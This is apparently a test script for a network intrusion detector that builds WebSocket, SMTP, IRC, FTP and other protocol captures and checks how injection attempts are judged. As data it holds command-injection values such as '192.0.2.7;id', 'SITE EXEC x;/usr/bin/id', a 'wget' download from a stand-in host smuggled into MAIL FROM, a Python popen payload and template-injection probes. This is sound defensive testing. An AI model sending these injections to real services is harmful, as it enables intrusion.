#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks in messages of WebSocket and in lines of text protocols: that show what they printed, that show nothing, and no attacks.

usage: streams.py BUILD [NAME…]
Frames are made by RFC 6455, compressed messages by zlib as RFC 7692 says.
"""
import base64, json, os, struct, sys, zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
import konseki
from exchanges import SHOWN, judge, kept, response, write
from segments import *
from tap import Tap

KEY = b'\x37\xfa\x21\x3d'
RUNS, OPEN, NONE = {'success'}, {'unknown'}, {None}
ID = SHOWN.decode()


def frame(data, client, opcode=1, last=True, reserved=0):
    data = data.encode() if isinstance(data, str) else data
    mask, size = (0x80 if client else 0), len(data)
    head = bytes([last << 7 | reserved << 6 | opcode])
    head += bytes([mask | size]) if size < 126 else struct.pack('>BH', mask | 126, size) if size < 65536 else struct.pack('>BQ', mask | 127, size)
    return head + (KEY + bytes(b ^ KEY[i & 3] for i, b in enumerate(data)) if client else data)


class Compressing:
    """One direction's messages, each built on those before; or each for itself."""

    def __init__(self, forgets=False):
        self.forgets, self.zlib = forgets, zlib.compressobj(9, zlib.DEFLATED, -15)

    def __call__(self, text, client):
        if self.forgets:
            self.zlib = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = self.zlib.compress(text.encode()) + self.zlib.flush(zlib.Z_SYNC_FLUSH)
        return frame(data[:-4], client, reserved=1)


def upgrade(extensions=''):
    asks = ('GET /live HTTP/1.1\r\nHost: www.example.net\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
            'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n' + extensions + '\r\n').encode()
    says = ('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
            'Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n' + extensions + '\r\n').encode()
    return [(True, asks), (False, says)]


def spoken(*messages, extensions='', write=frame, more=()):
    """Messages, the client's first, in turn; a list of several is said at once."""
    parts = upgrade(extensions)
    for i, said in enumerate(messages):
        client = i % 2 == 0
        for text in said if isinstance(said, list) else [said]:
            parts.append((client, text if isinstance(text, bytes) else write(text, client)))
    return parts


def deflated_talk(forgets):
    ways = {True: Compressing(forgets), False: Compressing(forgets)}
    both = '; server_no_context_takeover; client_no_context_takeover' if forgets else ''
    return spoken('{"cmd":"ping","host":"192.0.2.7"}', '{"ok":true,"out":"1 received"}', '{"cmd":"ping","host":"192.0.2.7;id"}',
                  json.dumps({'ok': True, 'out': '1 received\n' + ID}), extensions=f'Sec-WebSocket-Extensions: permessage-deflate{both}\r\n',
                  write=lambda text, client: ways[client](text, client))


def lines(*said):
    return [(i % 2 == 1, text.encode()) for i, text in enumerate(said)]


PING = '{"cmd":"ping","host":"192.0.2.7;id"}'
HALVES = [frame(PING[:17], True, last=False), frame(b'still there', True, opcode=9), frame(PING[17:], True, opcode=0)]
GREETING = '220 mail.example.net ESMTP\r\n'

# name, what is said and how, verdicts of the one record
CASES = [
    ('WebSocket', (spoken('192.0.2.7;id', '1 received\n' + ID), {}), RUNS),
    ('WebSocket in segments of one byte', (spoken('192.0.2.7;id', '1 received\n' + ID), {'mss': 1}), RUNS),
    ('WebSocket with JSON', (spoken(PING, json.dumps({'out': '1 received\n' + ID})), {}), RUNS),
    ('WebSocket with an event', (spoken('42["ping",{"host":"192.0.2.7;id"}]', '42["pong",' + json.dumps(ID) + ']'), {}), RUNS),
    ('WebSocket in two frames and a ping between', (spoken([*HALVES], [frame(b'still there', False, opcode=10), json.dumps({'out': ID})]), {}), RUNS),
    ('WebSocket after other messages', (spoken('hello', 'hello', 'status', 'ok', PING, json.dumps({'out': ID}), 'status', 'ok'), {}), RUNS),
    ('WebSocket, the answer in a later message', (spoken(PING, ['working', 'still working', json.dumps({'out': ID})]), {}), RUNS),
    ('WebSocket, two messages before the answer', (spoken([PING, 'status'], [json.dumps({'out': ID}), 'ok']), {}), RUNS),
    ('WebSocket, compressed', (deflated_talk(False), {}), RUNS),
    ('WebSocket, each message compressed for itself', (deflated_talk(True), {}), RUNS),
    ('WebSocket, binary message', (spoken(frame(PING, True, opcode=2), ID), {}), RUNS),
    ('WebSocket with base64', (spoken(json.dumps({'data': base64.b64encode(b'192.0.2.7;id').decode(), 'x': '192.0.2.7;id'}), ID), {}), RUNS),
    ('WebSocket that shows nothing', (spoken(PING, '{"ok":true}'), {}), OPEN),
    ('WebSocket, another message shows it, this one nothing', (spoken(PING, '{"ok":true}', 'whoami', '{"ok":true}'), {}), OPEN),
    ('WebSocket that echoes', (spoken(PING, PING), {}), OPEN),
    ('WebSocket whose answer came before', (spoken('status', ID, PING, '{"ok":true}'), {}), OPEN),
    ('WebSocket cut off', (spoken(PING), {'closed': False}), OPEN),
    ('chat over WebSocket', (spoken('{"text":"anyone here? I\'ll be back; look at the list (or not)"}', '{"text":"yes & no"}'), {}), NONE),
    ('SMTP', (lines(GREETING, 'EHLO a\r\n', '250 ok\r\n', 'MAIL FROM:<;wget http://192.0.2.200/x;@example.net>\r\n', '250 ok\r\n'), {}), OPEN),
    ('SMTP that shows what ran', (lines(GREETING, 'EHLO a\r\n', '250 ok\r\n', 'VRFY root;/usr/bin/id\r\n', '252 ' + ID.replace('\n', '\r\n'), 'QUIT\r\n', '221 bye\r\n'), {}), RUNS),
    ('a letter about code', (lines(GREETING, 'EHLO a\r\n', '250 ok\r\n', 'MAIL FROM:<a@example.net>\r\n', '250 ok\r\n', 'DATA\r\n', '354 go on\r\n',
                                   'Subject: how to\r\n\r\nTry this; cat /etc/passwd | head -3, then $(id) or `id`.\r\n{{7*7}} and ${7*7}\r\n.\r\n', '250 ok\r\n'), {}), NONE),
    ('IRC', (lines(':irc 001\r\n', 'PRIVMSG bot :192.0.2.7;/usr/bin/id\r\n', ':bot PRIVMSG a :' + ID + '\r\n'), {}), RUNS),
    ('talk over IRC', (lines(':irc 001\r\n', 'PRIVMSG #c :that | this; and more (see the list) & so on\r\n', ':b PRIVMSG #c :ok\r\n'), {}), NONE),
    ('a service of its own', (lines('name? ', 'localhost;/usr/bin/id\n', '127.0.0.1\n' + ID), {}), RUNS),
    ('a service that runs scripts', (lines('> ', "__import__('os').popen('id').read()\n", ID), {}), RUNS),
    ('a service with templates', (lines('> ', 'hello {{7351*98765}}\n', f'hello {7351 * 98765}\n'), {}), RUNS),
    ('FTP', (lines('220 ready\r\n', 'USER a\r\n', '331 password\r\n', 'PASS b\r\n', '230 ok\r\n', 'SITE EXEC x;/usr/bin/id\r\n', '200-' + ID.replace('\n', '\r\n') + '200 ok\r\n'), {}), RUNS),
    ('FTP as ever', (lines('220 ready\r\n', 'USER a\r\n', '331 password\r\n', 'PASS b;c|d\r\n', '230 ok\r\n', 'LIST\r\n', '150 ok\r\n'), {}), NONE),
    ('Redis as ever', (lines('', '*2\r\n$3\r\nGET\r\n$5\r\nuser1\r\n', '$3\r\nabc\r\n'), {}), NONE),
    ('memcached as ever', (lines('', 'get user:1\r\n', 'VALUE user:1 0 3\r\nabc\r\nEND\r\n'), {}), NONE),
]


def main():
    tap = Tap()
    files, wanted = [], {}
    folder = konseki.scratch()
    for number, (name, (said, more), verdicts) in enumerate(CASES):
        if sys.argv[2:] and name not in sys.argv[2:]:
            continue
        server, port = f'192.0.2.{number + 1}', 80 if 'WebSocket' in name else 2525
        files.append(write(folder, f'{number:03}', kept(Ends('198.51.100.9', server, 40000 + number, port), [p for p in said if p[1]], **more)))
        wanted[server] = name, verdicts
    judge(tap, files, wanted)
    tap.done()


main()
